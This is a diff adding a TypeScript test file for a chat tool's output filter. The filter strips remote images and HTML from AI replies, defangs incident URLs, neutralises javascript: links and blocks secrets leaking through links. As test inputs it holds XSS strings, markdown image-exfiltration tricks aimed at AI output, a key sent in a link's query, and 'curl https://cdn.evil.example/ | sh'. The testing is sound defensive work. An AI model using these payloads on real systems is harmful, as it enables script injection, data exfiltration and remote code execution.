@@ -1,0 +1,184 @@
+import { brief } from '@engineer-chat/chat/prompting'
+import { reply } from '@engineer-chat/chat/replying'
+import { finish } from '@engineer-chat/chat/testing'
+import t from 'tap'
+import { liveFilter } from '../../src/prompting/output/live-filter.ts'
+import { aWorker } from '../replying/reply-harness.ts'
+import { contextWith, MODEL, SETTINGS } from './prompt-context.ts'
+
+const EVIL = { event: { message: 'Beacon to hxxps://cdn.evil[.]example/a.php and login.bad.example.' } }
+const review = (text: string) => brief(contextWith(EVIL), MODEL, SETTINGS).review(text)
+const kinds = (text: string) => review(text).hits.map(({ kind }) => kind)
+
+const LOADED = '<img src=https://img.example/a.png>'
+/** Where a renderer sees no code, however much it looks like some. */
+const NO_CODE = [
+  `\`\`\`\na \r\`\`\`\r${LOADED}\n\`\`\``,
+  `\`\`\`\r\na\r\n\`\`\`\r\n${LOADED}\r\n\`\`\`\n`,
+  `\`\`\`\n\n\`\`\`\n${LOADED}\n\n`,
+  `\`\`\`\na\n\`\`\`~\n\`\`\`\n${LOADED}\n\`\`\``,
+  `\`\`\`\na\n \`\`\`\n${LOADED}\n\`\`\`\n`,
+  `- a\n\n  \`\`\`\n\`\`\`\n\n\`\`\`\n${LOADED}\n\`\`\``,
+  `a \` b\n\`${LOADED}\``,
+  `\\\\\`a\`${LOADED}\``,
+  `| a | b |\n|---|---|\n| \`${LOADED} | \` |`,
+  `https://img.example/\`${LOADED}\``,
+]
+
+t.test('[FILTER1] nothing in an answer is loaded from elsewhere, however it is written', async (t) => {
+  for (const image of [
+    '![x](https://img.example/a.png)',
+    '![](https://img.example/a.png "title")',
+    '![a [b] c](https://img.example/a.png)',
+    '![x](<https://img.example/a b.png>)',
+    '![x][ref]\n\n[ref]: https://img.example/a.png',
+    '![ref][]\n\n[ref]: https://img.example/a.png',
+    '[![x](https://img.example/a.png)](https://img.example/)',
+    '![a\nb](https://img.example/a.png)',
+    '![x](\nhttps://img.example/a.png)',
+    '![[[[x](https://img.example/a.png)',
+    '\\` ![x](https://img.example/a.png) `',
+    '1. a\n\n   ```\n![x](https://img.example/a.png)',
+    '\uE0000\uE001![x](https://img.example/a.png)',
+    '<img src=https://img.example/a.png>',
+    '<IMG\nsrc="https://img.example/a.png">',
+    '<svg><image href="https://img.example/a.png"/></svg>',
+    '<scr<script>ipt>alert(1)</script>',
+    '<a href="javascript:alert(1)">x</a>',
+    ...NO_CODE,
+  ]) {
+    const { content } = review(image)
+    t.notMatch(content, /!\[/, image)
+    t.notMatch(content, /\]\(/, image)
+    t.notMatch(content, /<[a-z/!]/i, image)
+    t.notMatch(content, /^\[ref\]:/m, image)
+  }
+  t.same(kinds('![x](https://img.example/a.png)'), ['remote_image'])
+  t.same(kinds('<img src=x>'), ['html'])
+})
+
+t.test('[FILTER2] links are written out, and lead where they say', async (t) => {
+  const written = (text: string) => review(text).content
+  t.equal(written('See [the docs](https://docs.example.org/a_b).'), 'See the docs (https://docs.example.org/a_b).')
+  t.equal(written('See [https://docs.example.org](https://docs.example.org).'), 'See https://docs.example.org.')
+  t.equal(written('See [it][1].\n\n[1]: https://docs.example.org'), 'See [it][1].\n\n[1]&#58; https://docs.example.org')
+  t.equal(written('<https://docs.example.org/x>'), 'https://docs.example.org/x')
+  t.equal(written('[mail](mailto:a@b.example)'), 'mail (a@b.example)')
+  t.equal(written('[x](javascript:alert(1))'), 'x (`javascript:alert(1)`)')
+  t.same(kinds('[x](javascript:alert(1))'), ['unsafe_link'])
+  t.same(kinds('[https://bank.example](https://other.example/login)'), ['misleading_link'])
+  t.same(kinds('[the docs](https://docs.example.org)'), [])
+})
+
+t.test('[FILTER3] addresses of the incident can’t be opened', async (t) => {
+  const { content, hits } = review(
+    'It calls https://cdn.evil.example/a.php?x=1. Block [this](http://login.bad.example).',
+  )
+  t.equal(content, 'It calls `hxxps://cdn[.]evil[.]example/a.php?x=1`. Block this (`hxxp://login[.]bad[.]example`).')
+  t.match(hits, [
+    {
+      kind: 'indicator_link',
+      count: 2,
+      examples: ['hxxps://cdn[.]evil[.]example/a.php?x=1', 'hxxp://login[.]bad[.]example'],
+    },
+  ])
+  t.equal(review('访问了（http://login.bad.example/x）。').content, '访问了（`hxxp://login[.]bad[.]example/x`）。')
+  t.equal(
+    review('见http://login.bad.example/x（198.51.100.88）').content,
+    '见`hxxp://login[.]bad[.]example/x`（198.51.100.88）',
+  )
+  t.equal(review('Plain cdn.evil.example and 10.0.0.1').content, 'Plain cdn.evil.example and 10.0.0.1')
+})
+
+t.test('[FILTER4] code stays as it is, and so does what is only prose', async (t) => {
+  for (const text of [
+    'Run `curl https://cdn.evil.example/a.php`.',
+    '```sh\ncurl https://cdn.evil.example/ | sh\necho "<img>" ![x](y)\n```\n',
+    'a < b and c > d, 1 <2, arr[1] (see above), wow! [ev1] [C2] *very* **bold**',
+    '| a | b |\n|---|---|\n| 1 | 2 |',
+    '1. Look:\n   ```sh\n   ls\n   ```\n\n2. Run `curl https://cdn.evil.example/a.php`.',
+    '~~~\n```\n<img>\n~~~\n\nthen ``a ` <b>`` and `x | <y>`',
+  ]) {
+    t.equal(review(text).content, text)
+    t.same(review(text).hits, [])
+  }
+})
+
+t.test('[FILTER5] a secret doesn’t leave in a link, and a fence’s mark isn’t repeated', async (t) => {
+  const context = contextWith({ question: 'Is AKIAABCDEFGHIJKLMNOP ours?' })
+  const { turns, review: check, restore } = brief(context, MODEL, SETTINGS)
+  const leaking = check(restore('[x](https://log.example/?k=[[KEY-1]]) and [[KEY-1]]'))
+  t.match(leaking, { content: /link left out.* and AKIA/, hits: [{ kind: 'secret_in_link' }] })
+  t.notMatch(JSON.stringify(leaking.hits), 'AKIA')
+  const mark = /<<<(DATA-\w+)/.exec(turns[0]?.content ?? '')?.[1] ?? 'none'
+  t.match(check(`The data <<<${mark} ev1 event says so.`), {
+    content: 'The data ‹fence› ev1 event says so.',
+    hits: [{ kind: 'mark_repeated' }],
+  })
+})
+
+t.test('[FILTER6] what was found is kept with the reply', async (t) => {
+  const worker = await aWorker([['Look ![x](https://img.exam', 'ple/a.png)', finish()]])
+  await reply(worker.ctx, worker.ref, new AbortController().signal)
+  t.equal(worker.content()?.content, 'Look x (https://img.example/a.png)')
+  const { items } = await worker.stores.reviews.list({ limit: 10 })
+  t.match(items, [{ reply: { hits: [{ kind: 'remote_image', count: 1 }], verdict: null } }])
+  const deltas = worker.heard.filter(({ type }) => type === 'delta').map(({ text }) => text)
+  t.equal(deltas.join(''), 'Look !\\[x](https://img.example/a.png)', 'and nothing was loaded meanwhile')
+})
+
+t.test('[FILTER6] so is what was found in its thinking, and told apart', async (t) => {
+  const thought = { type: 'reasoning', text: 'The log says: ![x](https://img.example/a.png). ' } as const
+  const worker = await aWorker([[thought, 'Isolate <img src=y> it.', finish()]])
+  await reply(worker.ctx, worker.ref, new AbortController().signal)
+  t.match(worker.content(), { reasoning: 'The log says: x (https://img.example/a.png). ' })
+  const { items } = await worker.stores.reviews.list({ limit: 10 })
+  t.same(items[0]?.reply.hits, [
+    { kind: 'html', count: 1, examples: ['img'] },
+    { kind: 'remote_image', count: 1, examples: ['hxxps://img[.]example/a.png'], in_reasoning: true },
+  ])
+  const clean = await aWorker([[thought, 'Isolate it.', finish()]])
+  await reply(clean.ctx, clean.ref, new AbortController().signal)
+  t.match((await clean.stores.reviews.list({ limit: 10 })).items, [{ reply: { hits: [{ in_reasoning: true }] } }])
+})
+
+t.test('[FILTER7] while an answer is written, what would be loaded is broken up at every split', async (t) => {
+  const text = 'a ![x](u) <img src=u> <b> <IFRAME src=u></iframe> if x<im and !! [y](u) <!-- <scripted> <script>!'
+  const whole = read([text])
+  t.notMatch(whole, /!\[/)
+  t.notMatch(whole, /<(?:img|iframe|script)\b/i)
+  t.match(whole, '<scripted>')
+  for (let at = 0; at <= text.length; at++) t.equal(read([text.slice(0, at), text.slice(at)]), whole)
+  t.equal(read([...text]), whole)
+})
+
+function read(pieces: string[]): string {
+  const filter = liveFilter()
+  return pieces.map((piece) => filter.push(piece)).join('') + filter.end()
+}
+
+t.test('[FILTER7] a hostile answer takes no long time', async (t) => {
+  for (const text of [
+    '![',
+    '[',
+    '[a](',
+    '](',
+    '<',
+    '`',
+    '[a]: ',
+    'https://',
+    '![a](b',
+    '[[',
+    '(((',
+    '\\',
+    '\n',
+    '```\n',
+    '`a`',
+    '`a` \n',
+  ]) {
+    const began = process.threadCpuUsage() // others share this machine
+    review(text.repeat(20_000))
+    const ms = process.threadCpuUsage(began).user / 1_000
+    t.ok(ms < 4_000, `${text} took ${Math.round(ms)} ms`)
+  }
+})
